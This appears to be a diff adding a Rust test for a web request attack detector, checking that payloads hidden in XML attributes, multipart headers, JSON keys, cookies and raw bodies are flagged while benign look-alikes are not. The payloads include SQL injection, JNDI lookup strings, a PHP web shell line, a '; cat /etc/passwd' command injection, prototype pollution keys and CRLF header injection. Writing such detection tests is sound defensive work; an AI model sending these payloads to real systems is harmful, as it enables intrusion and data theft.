@@ -528,3 +528,111 @@ fn a_body_parsed_by_the_caller_gives_the_same_findings() {
         detector.detect(&multipart)
     );
 }
+
+#[test]
+fn values_hiding_in_names_attributes_part_headers_and_whole_bodies_are_found() {
+    // XML attributes (entities decoded) and element names.
+    check(
+        &request(
+            "POST",
+            "/api/import",
+            &[("Content-Type", "application/xml")],
+            Some(r#"<order note="1&apos; or &apos;1&apos;=&apos;1"><java.lang.ProcessBuilder/></order>"#),
+        ),
+        &[
+            ("sqli", "request.xml.order.@note"),
+            ("rce", "request.xml.java.lang.ProcessBuilder"),
+        ],
+    );
+    // A `;` inside a quoted file name does not end it; the part's own headers are read too.
+    let body = "--b\r\nContent-Disposition: form-data; name=\"avatar\"; filename=\"shell.asp;.jpg\"\r\nContent-Type: image/jpeg; ${jndi:ldap://x/a}\r\n\r\nGIF89a\r\n--b--\r\n";
+    check(
+        &request(
+            "POST",
+            "/upload",
+            &[("Content-Type", "multipart/form-data; boundary=b")],
+            Some(body),
+        ),
+        &[
+            ("rce", "request.form.avatar.filename"),
+            ("rce", "request.form.avatar.content-type"),
+        ],
+    );
+    // Prototype pollution as JSON keys, as a bracketed query name and in a cookie name.
+    check(
+        &request(
+            "POST",
+            "/api/profile?a[__proto__][admin]=1",
+            &[("Content-Type", "application/json"), ("Cookie", "__proto__.x=1")],
+            Some(r#"{"constructor": {"prototype": {"isAdmin": true}}}"#),
+        ),
+        &[
+            ("rce", "request.json.constructor.prototype"),
+            ("rce", "request.query.a[__proto__][admin]"),
+            ("rce", "request.cookie.__proto__.x"),
+        ],
+    );
+    // A body that claims JSON but does not parse, and a plain-text body, are read whole.
+    check(
+        &request(
+            "POST",
+            "/api/run",
+            &[("Content-Type", "application/json")],
+            Some("{\"cmd\": \"; cat /etc/passwd\""),
+        ),
+        &[("rce", "request.body"), ("ptrav", "request.body")],
+    );
+    check(
+        &request(
+            "POST",
+            "/api/note",
+            &[("Content-Type", "text/plain")],
+            Some("<?php system($_GET['c']); ?>"),
+        ),
+        &[("rce", "request.body")],
+    );
+    // Free headers, upload names in X-File-Name, a line break in a header value.
+    check(
+        &request(
+            "GET",
+            "/",
+            &[
+                ("X-File-Name", "shell.php"),
+                ("Accept-Language", "en; ${jndi:ldap://x/a}"),
+                ("Api-Version", "java.lang.Runtime"),
+                ("Forwarded-Note", "a\r\nX-Injected: 1"),
+            ],
+            None,
+        ),
+        &[
+            ("rce", "request.header.x-file-name"),
+            ("rce", "request.header.accept-language"),
+            ("rce", "request.header.api-version"),
+            ("crlf", "request.header.forwarded-note"),
+        ],
+    );
+    // Their benign look-alikes stay clean.
+    check(
+        &request(
+            "POST",
+            "/upload?constructor=Williams",
+            &[
+                ("Content-Type", "multipart/form-data; boundary=b"),
+                ("Cookie", "prototype=3; theme=dark"),
+                ("Api-Version", "2024-06-01"),
+                ("Traceparent", "00-0af7651916cd43dd8448eb211c80319c-b7ad6b7169203331-01"),
+            ],
+            Some("--b\r\nContent-Disposition: form-data; name=\"doc\"; filename=\"report.final.v2.pdf\"\r\nContent-Type: application/pdf\r\n\r\n%PDF-1.4\r\n--b--\r\n"),
+        ),
+        &[],
+    );
+    check(
+        &request(
+            "POST",
+            "/api/cars",
+            &[("Content-Type", "application/xml")],
+            Some(r#"<car constructor="Williams" model="FW14"><note>java.lang.NullPointerException at Cart.add</note></car>"#),
+        ),
+        &[],
+    );
+}
